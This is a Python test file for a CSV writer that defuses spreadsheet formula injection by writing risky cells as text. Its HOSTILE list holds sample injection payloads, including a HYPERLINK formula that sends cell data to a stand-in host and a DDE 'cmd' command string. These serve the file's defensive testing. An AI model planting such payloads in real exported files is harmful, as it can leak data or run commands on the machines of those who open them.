"""The one CSV writer: a cell a spreadsheet would run as a formula is written as text."""

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from toolkit.files.spreadsheet_csv import csv_text, rows_csv_text, safe_cell, write_csv

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=2+2",  # a spreadsheet drops the tab and runs =2+2
    "-2+3",
    "  =1+1",
    "\r=1",
    "\n=1",
    "\uff1dSUM(1)",  # a full-width equals sign, read as "="
    "\u3000@x",
]
HARMLESS = ["GP 59", "a=b", "V1001", "", "97530", "x-1", "'=already text"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_formula_cells_get_an_apostrophe_and_other_cells_stay_as_they_are():
    frame = pd.DataFrame({"text": HOSTILE + HARMLESS})
    written = [row[0] for row in _cells(csv_text(frame))[1:]]
    assert written == ["'" + text for text in HOSTILE] + HARMLESS
    assert [safe_cell(text) for text in HOSTILE + HARMLESS] == written


def test_every_kind_of_text_column_is_made_safe_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "python_objects": pd.Series(["=1", 5, None], dtype=object),  # a cell as typed
            "strings": pd.array(["@x", "ok", None], dtype="str"),
            "categories": pd.Categorical(["+x", "ok", "+x"]),
            "number_categories": pd.Categorical([-1, 2, -1]),
            "numbers": [-5, 3, -1],
            "scores": [-2.5, None, 100.0],
        }
    )
    rows = _cells(csv_text(frame))
    assert rows[1:] == [
        ["'=1", "'@x", "'+x", "'-1", "-5", "-2.5"],
        ["5", "ok", "ok", "2", "3", ""],
        ["", "", "'+x", "'-1", "-1", "100"],
    ]


def test_rows_of_dicts_are_written_by_the_same_writer():
    text = rows_csv_text(["a", "b"], [{"a": "=1"}, {"a": "x", "b": "-y"}])
    assert _cells(text) == [["a", "b"], ["'=1", ""], ["x", "'-y"]]


def test_a_table_written_in_slices_reads_as_written_at_once():
    frame = pd.DataFrame({"n": range(10), "t": ["=x", "y"] * 5})
    whole = csv_text(frame)
    out = io.StringIO()
    write_csv(frame, out, rows_at_a_time=3)
    assert out.getvalue() == whole and whole.count("\n") == 11


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.text(alphabet=st.sampled_from(list("=+-@ \t\r\n\uff1d\u3000aZ1'\"")), max_size=6))
)
def test_the_column_rule_and_the_cell_rule_agree(texts):
    written = _cells(csv_text(pd.DataFrame({"t": pd.array(texts, dtype="str")})))[1:]
    assert [row[0] if row else "" for row in written] == [safe_cell(t) for t in texts]


def test_no_module_writes_csv_but_the_one_writer():
    import re
    from pathlib import Path

    import toolkit

    root = Path(toolkit.__file__).parent
    writer = root / "files" / "spreadsheet_csv.py"
    other_writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|pyarrow\.csv|pa_csv")
    found = [
        f"{path.relative_to(root)}: {match.group()}"
        for path in sorted(root.rglob("*.py"))
        if path != writer
        for match in other_writers.finditer(path.read_text(encoding="utf-8"))
    ]
    assert found == []
